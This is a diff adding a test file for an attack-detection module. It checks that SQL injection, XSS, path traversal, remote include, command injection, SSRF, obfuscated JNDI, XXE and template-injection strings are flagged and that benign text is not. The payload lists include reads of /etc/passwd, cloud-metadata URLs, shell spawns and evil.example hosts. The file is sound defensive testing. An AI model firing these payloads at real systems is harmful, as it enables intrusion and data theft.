@@ -1,0 +1,99 @@
+import { AttackClass, detectAttacks, ALL_VALUE_CLASSES, lastRule } from "../attack";
+
+function bits(s: string): u32 {
+  const b = String.UTF8.encode(s);
+  return detectAttacks(changetype<usize>(b), b.byteLength, ALL_VALUE_CLASSES);
+}
+function hits(s: string, c: AttackClass): bool { return (bits(s) & (1 << <u32>c)) != 0; }
+function clean(s: string): bool { return bits(s) == 0; }
+
+describe("sqli", () => {
+  it("flags string breakouts, tautologies, unions, stacked queries and time-based probes", () => {
+    const attacks: StaticArray<string> = [
+      "' or 1=1--", "admin'--", "' OR 'a'='a", "1 OR 1=1", "1' and sleep(5)#", "-1 UNION SELECT username, password FROM users",
+      "1;DROP TABLE users", "'; exec xp_cmdshell 'dir'--", "1 AND extractvalue(1,concat(0x7e,version()))", "' UnIoN/**/SeLeCt 1,2,3--",
+      "%27%20OR%201%3D1--", "%2527%2520or%25201%253D1--", "1) or (1=1", "' or true--", "1/*!50000union*/select 1", "\" or \"\"=\"",
+      "' and 1=(select count(*) from users)--", "1 waitfor delay '0:0:5'", "') or ('1'='1", "' order by 3--",
+    ];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
+  });
+  it("does not flag prose, names and code-fenced docs", () => {
+    const benign: StaticArray<string> = [
+      "select a drop-off point", "O'Brien", "Please select an option from the list", "Tom's order or Jane's", "It's 1 or 2 days",
+      "Bob's burgers; and fries", "```sql\nSELECT * FROM users WHERE id = 1;\n```", "union station", "I'd like to drop by",
+      "rock 'n' roll", "Delete my account please", "1-800-FLOWERS", "and/or", "v1.2.3", "Mc'Donald and O'Neil",
+    ];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
+  });
+});
+
+describe("xss", () => {
+  it("flags tags, handlers, script URIs and encoded forms", () => {
+    const attacks: StaticArray<string> = [
+      "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)", "\" onmouseover=\"alert(1)",
+      "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+      "<iframe src=//evil>", "<body onload=alert(1)>", "<IMG SRC=JaVaScRiPt:alert('XSS')>", "%253Cscript%253E", "<details open ontoggle=alert(1)>",
+      "' autofocus onfocus='alert(1)",
+    ];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
+  });
+  it("does not flag benign markup and prose", () => {
+    const benign: StaticArray<string> = ["<b>bold</b> text", "a < b and c > d", "I <3 cats", "Click on the button", "x = 1 once", "http://example.com/a?on=1"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
+  });
+});
+
+describe("traversal, rfi, cmdi", () => {
+  it("flags traversal in its encodings", () => {
+    const attacks: StaticArray<string> = ["../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", "..%c0%af..%c0%afetc", "....//....//etc/hosts", "php://filter/convert.base64-encode/resource=index.php", "/proc/self/environ", "..;/admin", "%252e%252e%252f"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Traversal)).toBe(true, attacks[i]);
+  });
+  it("does not flag ordinary paths and ellipses", () => {
+    const benign: StaticArray<string> = ["docs/readme.md", "Wait... what?", "v1.2..3", "/api/v1/users", "file.tar.gz"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Traversal)).toBe(false, benign[i]);
+  });
+  it("flags remote includes", () => {
+    expect(hits("http://evil.example/shell.txt?", AttackClass.Rfi)).toBe(true);
+    expect(hits("https://evil.example/x.php", AttackClass.Rfi)).toBe(true);
+    expect(hits("https://example.com/about", AttackClass.Rfi)).toBe(false);
+  });
+  it("flags command injection, with quote and IFS obfuscation", () => {
+    const attacks: StaticArray<string> = ["; cat /etc/passwd", "| id", "&& whoami", "`id`", "$(curl http://x)", "127.0.0.1;c'a't${IFS}/etc/passwd", "x||ping -c 1 x", "%0Aid", "a;/bin/sh -i"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["Tom & Jerry", "fish; chips", "salt & pepper; vinegar", "R&D", "price: $(5)"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
+  });
+});
+
+describe("ssrf, jndi, xxe, ssti", () => {
+  it("flags internal hosts in every IP form", () => {
+    const attacks: StaticArray<string> = ["http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://localhost:8080/admin", "http://2130706433/", "http://0177.0.0.1/", "http://0x7f000001/", "http://0x7f.0.0.1/", "http://10.0.0.5/", "http://user@192.168.1.1/", "gopher://x:70/_", "http://[::1]/", "http://metadata.google.internal/computeMetadata/v1/", "http://[::ffff:127.0.0.1]/"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssrf)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["https://example.com/", "http://8.8.8.8/", "http://172.32.0.1/", "https://api.github.com/repos"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Ssrf)).toBe(false, benign[i]);
+  });
+  it("flags jndi lookups including nested obfuscation", () => {
+    const attacks: StaticArray<string> = ["${jndi:ldap://x/a}", "${${lower:j}${upper:n}${lower:d}i:ldap://x}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}", "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "${jNdI:dns://x}"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Jndi)).toBe(true, attacks[i]);
+    expect(hits("${HOME}/bin", AttackClass.Jndi)).toBe(false);
+  });
+  it("flags XXE", () => {
+    expect(hits("<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", AttackClass.Xxe)).toBe(true);
+    expect(hits("<!DOCTYPE html>", AttackClass.Xxe)).toBe(false);
+  });
+  it("flags template expressions but not plain placeholders", () => {
+    const attacks: StaticArray<string> = ["{{7*7}}", "{{''.__class__.__mro__}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}", "{% import os %}"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssti)).toBe(true, attacks[i]);
+    expect(hits("Hello {{name}}", AttackClass.Ssti)).toBe(false);
+    expect(hits("{\"a\":1}", AttackClass.Ssti)).toBe(false);
+  });
+});
+
+describe("normalization limits", () => {
+  it("never traps on long or malformed input", () => {
+    let s = "%";
+    for (let i = 0; i < 12; i++) s += s + "%u12%c0%&#x;&#99999999999;${${::-";
+    expect(bits(s) >= 0).toBe(true);
+    expect(lastRule.length >= 0).toBe(true);
+  });
+});
